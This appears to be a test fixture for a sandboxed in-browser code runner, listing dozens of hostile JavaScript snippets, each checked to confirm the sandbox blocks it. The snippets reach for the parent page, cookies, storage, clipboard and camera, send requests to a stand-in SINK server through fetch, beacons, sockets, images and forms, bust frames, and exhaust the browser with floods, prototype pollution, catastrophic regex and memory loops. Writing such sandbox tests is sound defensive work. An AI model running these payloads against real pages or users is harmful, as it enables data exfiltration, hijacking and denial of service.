/** A hostile program. What it tries ends in `true` only if it got through. */
export interface Attack {
  name: string;
  /** Body of an async function; `SINK` is the address of a server that must never hear of it. */
  body: string;
  /** True if it takes the frame down: the page then offers to run again. */
  kills?: boolean;
}

/** What it must not reach. */
export const reaching: Attack[] = [
  {name: 'the document of the page', body: 'return Boolean(parent.document.body)'},
  {name: 'the document on top', body: 'return Boolean(top!.document.body)'},
  {name: 'the address on top', body: 'return Boolean(top!.location.href)'},
  {name: 'the outer frame', body: 'return Boolean(parent.document)'},
  {name: 'the frame element', body: 'return Boolean(window.frameElement)'},
  {name: 'the opener', body: 'return Boolean(window.opener)'},
  {name: 'sibling frames', body: 'return Boolean((top as any)[0].document)'},
  {name: 'variables of the page', body: 'return Boolean((parent.parent as any).React)'},
  {
    name: 'cookies',
    body: "document.cookie = 'stolen=1'; return document.cookie.includes('stolen')",
  },
  {
    name: 'the cookie store',
    body: "await (window as any).cookieStore.set('stolen', '1'); return true",
  },
  {name: 'localStorage', body: "localStorage.setItem('stolen', '1'); return true"},
  {name: 'sessionStorage', body: "sessionStorage.setItem('stolen', '1'); return true"},
  {
    name: 'IndexedDB',
    body: "return await new Promise((ok, no) => { const r = indexedDB.open('stolen'); r.onsuccess = () => ok(true); r.onerror = no; })",
  },
  {name: 'caches', body: "await caches.open('stolen'); return true"},
  {name: 'the private file system', body: 'await navigator.storage.getDirectory(); return true'},
  {name: 'a service worker', body: "await navigator.serviceWorker.register('/sw.js'); return true"},
  {name: 'a shared worker', body: "new SharedWorker('/robots.txt'); return true"},
  {
    name: 'a worker of the site',
    body: "return await new Promise((ok, no) => { const w = new Worker('/search/worker.js'); w.onmessage = () => ok(true); w.onerror = no; setTimeout(no, 300); })",
  },
  {name: 'the clipboard', body: 'await navigator.clipboard.readText(); return true'},
  {
    name: 'the camera',
    body: 'await navigator.mediaDevices.getUserMedia({video: true}); return true',
  },
  {
    name: 'the position',
    body: 'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok(true), no))',
  },
  {name: 'notifications', body: "return (await Notification.requestPermission()) === 'granted'"},
  {name: 'full screen', body: 'await document.documentElement.requestFullscreen(); return true'},
  {
    name: 'the pointer',
    body: 'await document.body.requestPointerLock(); return document.pointerLockElement !== null',
  },
  {name: 'the screen', body: 'await navigator.mediaDevices.getDisplayMedia(); return true'},
  {name: 'a realm with WebRTC', body: 'return typeof RTCPeerConnection === "function"'},
  {
    name: 'WebRTC of a child frame',
    body: "const f = document.createElement('iframe'); document.body.append(f); return typeof (f.contentWindow as any).RTCPeerConnection === 'function'",
  },
  {
    name: 'scripts of a child frame',
    body: "return await new Promise((ok, no) => { addEventListener('message', () => ok(true)); const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage(1, \"*\")</' + 'script>'; document.body.append(f); setTimeout(no, 400); })",
  },
  {
    name: 'blob scripts',
    body: "return await new Promise((ok, no) => { (window as any).got = () => ok(true); const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['got()'])); s.onerror = no; document.head.append(s); })",
  },
];

/** Where nothing must arrive. */
export const sending: Attack[] = [
  {name: 'fetch', body: "await fetch(SINK + 'fetch', {mode: 'no-cors'}); return true"},
  {name: 'fetch of this site', body: "await fetch(new URL('/robots.txt', SITE)); return true"},
  {
    name: 'XMLHttpRequest',
    body: "return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', SINK + 'xhr'); x.onload = () => ok(true); x.onerror = no; x.send(); })",
  },
  {name: 'a beacon', body: "navigator.sendBeacon(SINK + 'beacon', 'x')"},
  {
    name: 'WebSocket',
    body: "return await new Promise((ok, no) => { const s = new WebSocket(SINK.replace('http', 'ws') + 'socket'); s.onopen = () => ok(true); s.onerror = no; })",
  },
  {
    name: 'EventSource',
    body: "return await new Promise((ok, no) => { const s = new EventSource(SINK + 'events'); s.onopen = () => ok(true); s.onerror = no; })",
  },
  {
    name: 'WebTransport',
    body: "await new (window as any).WebTransport(SINK + 'transport').ready; return true",
  },
  {
    name: 'an image',
    body: "return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok(true); i.onerror = no; i.src = SINK + 'image'; })",
  },
  {
    name: 'a background',
    body: "document.body.style.backgroundImage = 'url(' + SINK + 'background)'",
  },
  {
    name: 'styles that import',
    body: "const s = document.createElement('style'); s.textContent = '@import \"' + SINK + 'import\";'; document.head.append(s)",
  },
  {
    name: 'a typeface',
    body: "await new FontFace('x', 'url(' + SINK + 'font)').load(); return true",
  },
  {
    name: 'a video',
    body: "return await new Promise((ok, no) => { const v = document.createElement('video'); v.onloadeddata = () => ok(true); v.onerror = no; v.src = SINK + 'video'; })",
  },
  {
    name: 'a script',
    body: "return await new Promise((ok, no) => { const s = document.createElement('script'); s.src = SINK + 'script'; s.onload = () => ok(true); s.onerror = no; document.head.append(s); })",
  },
  {
    name: 'a module',
    body: "await new Function('u', 'return import(u)')(SINK + 'module'); return true",
  },
  {
    name: 'a worker that fetches',
    body: "return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + SINK + 'worker\").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({data}) => data ? ok(true) : no(); w.onerror = no; setTimeout(no, 800); })",
  },
  {
    name: 'prefetching',
    body: "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = SINK + 'prefetch'; document.head.append(l)",
  },
  {
    name: 'a stylesheet',
    body: "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = SINK + 'style'; document.head.append(l)",
  },
  {
    name: 'a frame',
    body: "const f = document.createElement('iframe'); f.src = SINK + 'frame'; document.body.append(f)",
  },
  {
    name: 'an object',
    body: "const o = document.createElement('object'); o.data = SINK + 'object'; document.body.append(o)",
  },
  {
    name: 'a picture in SVG',
    body: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + SINK + 'svg\"/></svg>')",
  },
  {
    name: 'a form',
    body: "document.body.insertAdjacentHTML('beforeend', '<form id=\"f\" method=\"post\" action=\"' + SINK + 'form\"></form>'); (document.getElementById('f') as HTMLFormElement).submit()",
  },
  {
    name: 'the ping of a link',
    body: "document.body.insertAdjacentHTML('beforeend', '<a id=\"a\" href=\"#x\" ping=\"' + SINK + 'ping\">x</a>'); document.getElementById('a')!.click()",
    kills: true,
  },
];

/** Ways to lead away, to open or to ask. */
export const leaving: Attack[] = [
  {name: 'its own address', body: "location.href = SINK + 'location'", kills: true},
  {
    name: 'a refresh',
    body: "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=' + SINK + 'refresh\">')",
    kills: true,
  },
  {
    name: 'the address of the outer frame',
    body: "parent.location.href = SINK + 'parent'; return true",
  },
  {name: 'the address on top', body: "top!.location.href = SINK + 'top'; return true"},
  {name: 'the hash on top', body: "top!.location.hash = 'x'; return true"},
  {name: 'a window', body: "return window.open(SINK + 'open') !== null"},
  {
    name: 'a link to the top',
    body: "document.body.insertAdjacentHTML('beforeend', '<a id=\"a\" target=\"_top\" href=\"' + SINK + 'top\">x</a>'); document.getElementById('a')!.click()",
  },
  {
    name: 'a link to a new tab',
    body: "document.body.insertAdjacentHTML('beforeend', '<a id=\"a\" target=\"_blank\" href=\"' + SINK + 'tab\">x</a>'); document.getElementById('a')!.click()",
  },
  {
    name: 'a download',
    body: "const a = document.createElement('a'); a.download = 'x.exe'; a.href = URL.createObjectURL(new Blob(['x'])); a.click()",
  },
  {name: 'the history', body: 'history.back(); history.go(-2)'},
  {name: 'its own hash', body: "location.hash = 'elsewhere'"},
  {name: 'an alert', body: "alert('x')"},
  {name: 'a question', body: "return confirm('x')"},
  {name: 'printing', body: 'print()'},
  {
    name: 'a warning before leaving',
    body: "addEventListener('beforeunload', (e) => e.preventDefault())",
  },
  {name: 'frame busting', body: 'if (top !== self) top!.location.replace(SINK); return true'},
  {
    name: 'writing over the document',
    body: "document.open(); document.write('<h1>gone</h1>'); document.close()",
    kills: true,
  },
];

/** What is to wear the page out, or its other half. */
export const wearing: Attack[] = [
  {
    name: 'messages on top',
    body: "for (let i = 0; i < 20000; i++) top!.postMessage({type: 'fault', run: 1}, '*')",
  },
  {
    name: 'forged messages',
    body: "top!.postMessage({type: 'ready', version: 1}, '*'); parent.postMessage({type: 'ran'}, '*')",
  },
  {
    name: 'a flood through the port',
    body: "const post = MessagePort.prototype.postMessage; let port: MessagePort | undefined; MessagePort.prototype.postMessage = function (this: MessagePort, ...a: any) { port = this; return (post as any).apply(this, a); }; console.log('x'); const flood = () => { for (let i = 0; i < 400; i++) post.call(port ?? new MessageChannel().port1, {type: 'frame', frame: i}); setTimeout(flood, 1); }; setTimeout(flood, 50)",
  },
  {
    name: 'a pollution',
    body: "(Object.prototype as any).type = 'run'; (Object.prototype as any).line = 1; (Array.prototype as any).map = () => { throw new Error('no map'); }",
    kills: true,
  },
  {name: 'the page of its own removed', body: 'document.documentElement.remove()', kills: true},
  {
    name: 'a storm of timers',
    body: 'for (let i = 0; i < 2000; i++) setInterval(() => document.body.append("x"), 1)',
    kills: true,
  },
  {name: 'logs', body: "for (let i = 0; i < 5000; i++) console.log('x'.repeat(10000))"},
  {name: 'a promise that never rests', body: 'while (true) await null'},
  {name: 'a recursion', body: 'const f = (n: number): number => f(n + 1) + f(n + 1); f(0)'},
  {
    name: 'a recursion that branches',
    body: 'const f = (n: number): number => n < 2 ? n : f(n - 1) + f(n - 2); f(60)',
  },
  {
    name: 'a generator without end',
    body: 'function* g() { for (;;) yield 1; } for (const x of g()) void x',
  },
  {name: 'a getter that loops', body: 'const o = {get a() { for (;;); }}; return Boolean(o.a)'},
];

/** Programs that stop the frame for good: it falls silent, or its process ends. */
export const killing: Attack[] = [
  {name: 'an expression that backtracks', body: "/(a+)+$/.test('a'.repeat(60) + 'b')"},
  {
    name: 'a billion nodes',
    body: "document.body.innerHTML = '<i></i>'.repeat(3_000_000); document.body.innerHTML += document.body.innerHTML.repeat(20)",
  },
  {
    name: 'memory',
    body: "const held: unknown[] = []; const eat = new Function('held', 'for (;;) held.push(new Float64Array(4e6).fill(1))'); eat(held)",
  },
  {name: 'a loop that is hidden from the compiler', body: "new Function('for (;;);')()"},
];
